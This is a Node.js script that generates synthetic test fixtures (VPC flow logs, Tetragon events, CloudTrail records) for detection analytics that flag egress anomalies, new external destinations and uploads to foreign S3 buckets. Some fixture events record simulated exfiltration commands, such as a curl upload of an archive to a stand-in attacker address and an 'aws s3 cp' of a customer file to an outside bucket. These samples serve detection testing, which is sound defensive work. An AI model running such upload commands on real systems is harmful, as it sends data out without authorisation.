#!/usr/bin/env node
// Writes the network fixtures of @outflow/detections (analytics 14–16) next to this script:
// AWS VPC flow logs (custom v5 format with a header line), Tetragon JSON export lines, CloudTrail
// delivery files and a pod inventory, all synthetic and deterministic. The files are committed;
// run `node testdata/network/make-fixtures.mjs` after changing this script and review the diff.
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const DIR = dirname(fileURLToPath(import.meta.url));
const T0 = Date.UTC(2024, 4, 6, 8, 0, 0); // Monday 2024-05-06 08:00 UTC
const MIN = 60_000;
const ACCOUNT = '111122223333';
const FOREIGN = '999988887777';

/** xorshift32: the same numbers on every run. */
function rng(seed) {
  let x = seed >>> 0 || 1;
  return () => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return (x >>> 0) / 4294967296;
  };
}

const HEADER = 'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status flow-direction';

const POD = {
  api: { ip: '10.42.1.10', name: 'api-7d9f8c6b5-x2x9q', workload: 'api', kind: 'Deployment', ns: 'shop', eni: 'eni-0a0000000000000a1', image: `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/shop/api:5.12.0`, cid: 'a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1' },
  web: { ip: '10.42.1.20', name: 'web-5c7d9f8b6-p8k2m', workload: 'web', kind: 'Deployment', ns: 'shop', eni: 'eni-0a0000000000000a2', image: `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/shop/web:2.3.1`, cid: 'b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2' },
  debug: { ip: '10.42.9.9', name: 'debug-shell', workload: 'debug-shell', kind: 'Pod', ns: 'shop', eni: 'eni-0a0000000000000a3', image: 'docker.io/someone/debug-tools:latest', cid: 'c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3', from: 100 },
  backup: { ip: '10.42.7.7', name: 'nightly-backup-28582560-abcde', workload: 'nightly-backup', kind: 'CronJob', ns: 'ops', eni: 'eni-0a0000000000000a4', image: `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/ops/backup:1.4.0`, cid: 'd4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4', from: 100 },
  etl: { ip: '10.42.5.5', name: 'etl-hourly-28582561-fghij', workload: 'etl-hourly', kind: 'CronJob', ns: 'data', eni: 'eni-0a0000000000000a5', image: `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/data/etl:0.14.2`, cid: 'e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5', from: 5 },
};

const DEST = {
  s3: '52.218.4.10',
  apiService: '172.20.10.2',
  payments: '198.51.100.10', // allow-listed
  mirror: '198.51.100.77', // external, contacted by the api from the start
  attacker: '203.0.113.66',
  attackerAlt: '203.0.113.99',
  ntp: '192.0.2.123',
  client: '192.0.2.200',
};

/** Both VPC records of one conversation on the pod's ENI (egress: pod → remote; ingress: the reply). */
function conversation(lines, pod, minute, remote, remotePort, bytesOut, bytesIn, opts = {}) {
  const start = Math.floor((T0 + minute * MIN) / 1000);
  const end = start + (opts.seconds ?? 60);
  const sport = opts.localPort ?? 40000 + ((minute * 7919) % 20000);
  const proto = opts.protocol ?? 6;
  const pk = (b) => Math.max(1, Math.ceil(b / 1400));
  lines.push(`5 ${ACCOUNT} ${pod.eni} ${pod.ip} ${remote} ${sport} ${remotePort} ${proto} ${pk(bytesOut)} ${Math.round(bytesOut)} ${start} ${end} ACCEPT OK egress`);
  lines.push(`5 ${ACCOUNT} ${pod.eni} ${remote} ${pod.ip} ${remotePort} ${sport} ${proto} ${pk(bytesIn)} ${Math.round(bytesIn)} ${start} ${end} ACCEPT OK ingress`);
}

/** Two hours of normal life: the api calls S3 every minute and a package mirror every ten; the web pod calls the api service every five. */
function background(lines, r, minutes = 130) {
  for (let m = 0; m < minutes; m++) {
    conversation(lines, POD.api, m, DEST.s3, 443, 40_000 + 20_000 * r(), 300_000);
    if (m % 10 === 3) conversation(lines, POD.api, m, DEST.mirror, 443, 30_000, 900_000);
    if (m % 5 === 1) conversation(lines, POD.web, m, DEST.apiService, 8080, 60_000, 200_000);
  }
}

function vpc(name, lines) {
  const sorted = [...lines].sort((a, b) => Number(a.split(' ')[11]) - Number(b.split(' ')[11]));
  writeFileSync(join(DIR, name), `${HEADER}\n${sorted.join('\n')}\n`);
}

// --- Tetragon JSON export -------------------------------------------------------------------
/** RFC 3339 with microseconds, as Tetragon writes. */
const iso = (t) => `${new Date(t).toISOString().slice(0, -1)}000Z`;

function tproc(pod, execId, binary, args, start, pid) {
  return {
    exec_id: execId,
    pid,
    uid: 0,
    cwd: '/',
    binary,
    arguments: args,
    flags: 'execve clone',
    start_time: iso(start),
    auid: 4294967295,
    pod: {
      namespace: pod.ns,
      name: pod.name,
      container: { id: `containerd://${pod.cid}`, name: pod.workload.split('-')[0], image: { id: `${pod.image.split(':')[0]}@sha256:${'0'.repeat(64)}`, name: pod.image }, start_time: iso(T0), pid: 1 },
      pod_labels: { app: pod.workload },
      workload: pod.workload,
      workload_kind: pod.kind,
    },
    docker: pod.cid.slice(0, 31),
    parent_exec_id: `${execId}-parent`,
    tid: pid,
  };
}

function parentOf(pod, execId) {
  return tproc(pod, `${execId}-parent`, '/bin/sh', '', T0, 1);
}

function texec(pod, execId, binary, args, t, pid) {
  return { process_exec: { process: tproc(pod, execId, binary, args, t, pid), parent: parentOf(pod, execId) }, node_name: 'ip-10-42-0-1.eu-west-1.compute.internal', time: iso(t) };
}

function texit(pod, execId, binary, args, start, t, pid) {
  return { process_exit: { process: tproc(pod, execId, binary, args, start, pid), parent: parentOf(pod, execId), status: 0, time: iso(t) }, node_name: 'ip-10-42-0-1.eu-west-1.compute.internal', time: iso(t) };
}

function tsend(pod, execId, binary, args, start, t, pid, daddr, dport, size) {
  const sock = { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', mark: 0, priority: 0, saddr: pod.ip, daddr, sport: 45012, dport, cookie: '18446618949425379584', state: 'TCP_ESTABLISHED' };
  return {
    process_kprobe: {
      process: tproc(pod, execId, binary, args, start, pid),
      parent: parentOf(pod, execId),
      function_name: 'tcp_sendmsg',
      args: [{ sock_arg: sock }, { int_arg: size }],
      action: 'KPROBE_ACTION_POST',
      policy_name: 'network-monitoring',
      return_action: 'KPROBE_ACTION_POST',
    },
    node_name: 'ip-10-42-0-1.eu-west-1.compute.internal',
    time: iso(t),
  };
}

function jsonl(name, records) {
  const sorted = [...records].sort((a, b) => Date.parse(a.time) - Date.parse(b.time));
  writeFileSync(join(DIR, name), `${sorted.map((x) => JSON.stringify(x)).join('\n')}\n`);
}

// --- CloudTrail ------------------------------------------------------------------------------
let eventCounter = 0;
function trail(t, eventName, bucket, key, bucketAccount, bytes, sourceIp, extra = {}) {
  eventCounter++;
  const id = `00000000-0000-4000-8000-${String(eventCounter).padStart(12, '0')}`;
  return {
    eventVersion: '1.09',
    userIdentity: {
      type: 'AssumedRole',
      principalId: 'AROAEXAMPLEETLWRITER:botocore-session-1',
      arn: `arn:aws:sts::${ACCOUNT}:assumed-role/etl-writer/botocore-session-1`,
      accountId: ACCOUNT,
      sessionContext: { sessionIssuer: { type: 'Role', arn: `arn:aws:iam::${ACCOUNT}:role/etl-writer`, accountId: ACCOUNT, userName: 'etl-writer' } },
    },
    eventTime: new Date(t).toISOString().replace('.000Z', 'Z'),
    eventSource: 's3.amazonaws.com',
    eventName,
    awsRegion: 'eu-west-1',
    sourceIPAddress: sourceIp,
    userAgent: 'aws-cli/2.15.30 md/command#s3.cp',
    requestParameters: { bucketName: bucket, key, Host: `${bucket}.s3.eu-west-1.amazonaws.com` },
    responseElements: null,
    additionalEventData: { bytesTransferredIn: bytes, bytesTransferredOut: 0 },
    requestID: `REQ${String(eventCounter).padStart(13, '0')}`,
    eventID: id,
    readOnly: false,
    resources: [
      { type: 'AWS::S3::Object', ARN: `arn:aws:s3:::${bucket}/${key}` },
      { accountId: bucketAccount, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` },
    ],
    eventType: 'AwsApiCall',
    managementEvent: false,
    recipientAccountId: ACCOUNT,
    eventCategory: 'Data',
    ...extra,
  };
}

// --- 14 egress_volume_anomaly ------------------------------------------------------------------
{
  const r = rng(14);
  const pos = [];
  background(pos, r);
  // The api (two hours of history, never more than a few kB to external addresses) sends 20 MB to a new address in 5 minutes.
  for (let m = 120; m < 125; m++) conversation(pos, POD.api, m, DEST.attackerAlt, 8080, 4_000_000, 20_000);
  // A pod started at minute 100 with no history sends 1.2 GB in 5 minutes to an external address: above the cap for new workloads.
  conversation(pos, POD.debug, 101, '172.20.0.10', 53, 200, 400, { protocol: 17 });
  for (let m = 110; m < 115; m++) conversation(pos, POD.debug, m, DEST.attacker, 443, 240_000_000, 500_000);
  vpc('egress-positive.vpc.log', pos);

  const neg = [];
  background(neg, rng(14));
  // A new backup pod writes 3 GB to S3 in 10 minutes: cloud storage, not capped for new workloads (the analytic of foreign storage decides whose bucket it is).
  for (let m = 100; m < 110; m++) conversation(neg, POD.backup, m, DEST.s3, 443, 300_000_000, 800_000);
  // The api sends 400 MB to the allow-listed payment provider: class `allowed`, never scored.
  for (let m = 120; m < 125; m++) conversation(neg, POD.api, m, DEST.payments, 443, 80_000_000, 100_000);
  // The api sends 900 kB to a new external address: below the 1 MB floor.
  for (let m = 126; m < 129; m++) conversation(neg, POD.api, m, DEST.attackerAlt, 8080, 300_000, 10_000);
  // The new debug pod downloads 2 GB (ingress records: bytes the pod received are not egress) and uploads 300 MB,
  // which VPC flow logs and Tetragon both report: 300 MB, not 600 MB, stays under the 500 MB cap.
  for (let m = 110; m < 115; m++) conversation(neg, POD.debug, m, DEST.attacker, 443, 60_000_000, 400_000_000);
  vpc('egress-negative.vpc.log', neg);
  const tet = [];
  const exec = 'ZGVidWctY3VybA';
  const start = T0 + 109 * MIN + 30_000;
  tet.push(texec(POD.debug, exec, '/usr/bin/curl', `-s -T /tmp/x.tgz https://${DEST.attacker}/up`, start, 4242));
  for (let m = 110; m < 115; m++) tet.push(tsend(POD.debug, exec, '/usr/bin/curl', `-s -T /tmp/x.tgz https://${DEST.attacker}/up`, start, T0 + m * MIN + 30_000, 4242, DEST.attacker, 443, 60_000_000));
  tet.push(texit(POD.debug, exec, '/usr/bin/curl', `-s -T /tmp/x.tgz https://${DEST.attacker}/up`, start, T0 + 115 * MIN + 10_000, 4242));
  jsonl('egress-negative.tetragon.jsonl', tet);
}

// --- 15 new_external_destination -----------------------------------------------------------------
{
  const pos = [];
  background(pos, rng(15));
  // The api (two hours of history) opens a connection to an address nobody in the cluster contacted: cluster level.
  conversation(pos, POD.api, 121, DEST.attackerAlt, 8080, 50_000, 2_000);
  // The web pod contacts the package mirror for the first time; the api contacts it every ten minutes: workload level, common in the cluster.
  conversation(pos, POD.web, 122, DEST.mirror, 443, 20_000, 400_000);
  // A pod started at minute 100 contacts a never-seen address: caught by the cluster level although the pod has no history.
  conversation(pos, POD.debug, 110, DEST.attacker, 443, 1_000_000, 20_000);
  vpc('new-destination-positive.vpc.log', pos);

  const neg = [];
  background(neg, rng(15));
  // Allow-listed payment provider, S3 (cloud range), a service: never findings.
  conversation(neg, POD.api, 121, DEST.payments, 443, 50_000, 2_000);
  conversation(neg, POD.web, 121, DEST.s3, 443, 50_000, 2_000);
  // NTP to a new public server: suppressed by the default exception `ntp`.
  conversation(neg, POD.web, 122, DEST.ntp, 123, 90, 90, { protocol: 17, localPort: 41123 });
  // Reply traffic to an external client of the web pod (it listens on 8443): not a destination the pod chose.
  conversation(neg, POD.web, 123, DEST.client, 51515, 900_000, 30_000, { localPort: 8443 });
  // The new debug pod contacts the mirror, which the cluster knows: the pod is still learning, nothing to say.
  conversation(neg, POD.debug, 110, DEST.mirror, 443, 20_000, 100_000);
  vpc('new-destination-negative.vpc.log', neg);
}

// --- 16 cloud_storage_foreign_transfer -------------------------------------------------------------
{
  const pos = [];
  background(pos, rng(16), 30);
  // The ETL pod runs `aws s3 cp` to a bucket that is not ours and sends 600 MB to S3 ranges.
  for (let m = 12; m < 16; m++) conversation(pos, POD.etl, m, DEST.s3, 443, 150_000_000, 300_000);
  vpc('foreign-transfer-positive.vpc.log', pos);
  const tet = [];
  const cmd = 's3 cp /tmp/customers.csv.gz s3://drop-zone-7781/2024/';
  tet.push(texec(POD.etl, 'ZXRsLWF3cy1jcA', '/usr/local/bin/aws', cmd, T0 + 11 * MIN + 50_000, 777));
  tet.push(texit(POD.etl, 'ZXRsLWF3cy1jcA', '/usr/local/bin/aws', cmd, T0 + 11 * MIN + 50_000, T0 + 16 * MIN + 5_000, 777));
  jsonl('foreign-transfer-positive.tetragon.jsonl', tet);
  // CloudTrail data events of an upload to a bucket whose owner CloudTrail names: a foreign account (from outside the cluster).
  const records = [];
  for (let i = 0; i < 4; i++) records.push(trail(T0 + (20 + i) * MIN, 'PutObject', 'partner-drop-eu', `exports/part-${i}.parquet`, FOREIGN, 40_000_000, '192.0.2.55'));
  writeFileSync(join(DIR, 'foreign-transfer-positive.cloudtrail.json'), `${JSON.stringify({ Records: records })}\n`);

  const neg = [];
  background(neg, rng(16), 160);
  // The nightly backup syncs 3 GB to our own bucket (organization.buckets).
  for (let m = 100; m < 110; m++) conversation(neg, POD.backup, m, DEST.s3, 443, 300_000_000, 800_000);
  // The ETL pod uploads 600 MB to a bucket CloudTrail shows is ours (learned owner), then 50 MB to a bucket that is not: too small.
  for (let m = 112; m < 116; m++) conversation(neg, POD.etl, m, DEST.s3, 443, 150_000_000, 300_000);
  for (let m = 140; m < 142; m++) conversation(neg, POD.etl, m, DEST.s3, 443, 25_000_000, 100_000);
  // Another 600 MB to our bucket at minute 150, while an upload to a foreign bucket exited at minute 142 (no longer running).
  for (let m = 150; m < 154; m++) conversation(neg, POD.etl, m, DEST.s3, 443, 150_000_000, 300_000);
  vpc('foreign-transfer-negative.vpc.log', neg);
  const ntet = [];
  const sync = 's3 sync /backup s3://acme-prod-backups/postgres/2024-05-06/';
  ntet.push(texec(POD.backup, 'YmFja3VwLXN5bmM', '/usr/local/bin/aws', sync, T0 + 99 * MIN + 30_000, 555));
  ntet.push(texit(POD.backup, 'YmFja3VwLXN5bmM', '/usr/local/bin/aws', sync, T0 + 99 * MIN + 30_000, T0 + 110 * MIN + 5_000, 555));
  const own = 's3 cp /tmp/extract.parquet s3://etl-extracts-learned/2024/';
  ntet.push(texec(POD.etl, 'ZXRsLW93bg', '/usr/local/bin/aws', own, T0 + 111 * MIN + 40_000, 901));
  ntet.push(texit(POD.etl, 'ZXRsLW93bg', '/usr/local/bin/aws', own, T0 + 111 * MIN + 40_000, T0 + 116 * MIN + 5_000, 901));
  const small = 's3 cp /tmp/sample.csv s3://drop-zone-7781/';
  ntet.push(texec(POD.etl, 'ZXRsLXNtYWxs', '/usr/local/bin/aws', small, T0 + 139 * MIN + 50_000, 902));
  ntet.push(texit(POD.etl, 'ZXRsLXNtYWxs', '/usr/local/bin/aws', small, T0 + 139 * MIN + 50_000, T0 + 142 * MIN + 5_000, 902));
  jsonl('foreign-transfer-negative.tetragon.jsonl', ntet);
  // CloudTrail names the owner of etl-extracts-learned: our account (the bucket-owner learner learns it).
  const nrec = [trail(T0 + 60 * MIN, 'PutObject', 'etl-extracts-learned', 'warmup/ok', ACCOUNT, 1_000, POD.etl.ip)];
  writeFileSync(join(DIR, 'foreign-transfer-negative.cloudtrail.json'), `${JSON.stringify({ Records: nrec })}\n`);
}

// --- inventory and preset configuration --------------------------------------------------------
{
  const pods = Object.values(POD).map((p) => ({
    cluster: 'prod-eu',
    namespace: p.ns,
    name: p.name,
    workloadKind: p.kind,
    workloadName: p.workload,
    ips: [p.ip],
    containers: [{ name: p.workload.split('-')[0], id: p.cid, image: p.image }],
    validFrom: new Date(T0 + (p.from ?? -60) * MIN).toISOString(),
  }));
  writeFileSync(join(DIR, 'inventory.json'), `${JSON.stringify({ pods }, null, 1)}\n`);
  const config = {
    organization: { accounts: [ACCOUNT], buckets: ['acme-prod-*'] },
    cluster: { name: 'prod-eu', podCidrs: ['10.42.0.0/16'], serviceCidrs: ['172.20.0.0/16'] },
    destinations: { allow: [DEST.payments], cloudRanges: { prefixes: [{ prefix: '52.218.0.0/17', service: 'S3', region: 'eu-west-1' }] } },
    images: { trustedRegistries: [`${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com`] },
  };
  writeFileSync(join(DIR, 'config.json'), `${JSON.stringify(config, null, 1)}\n`);
}
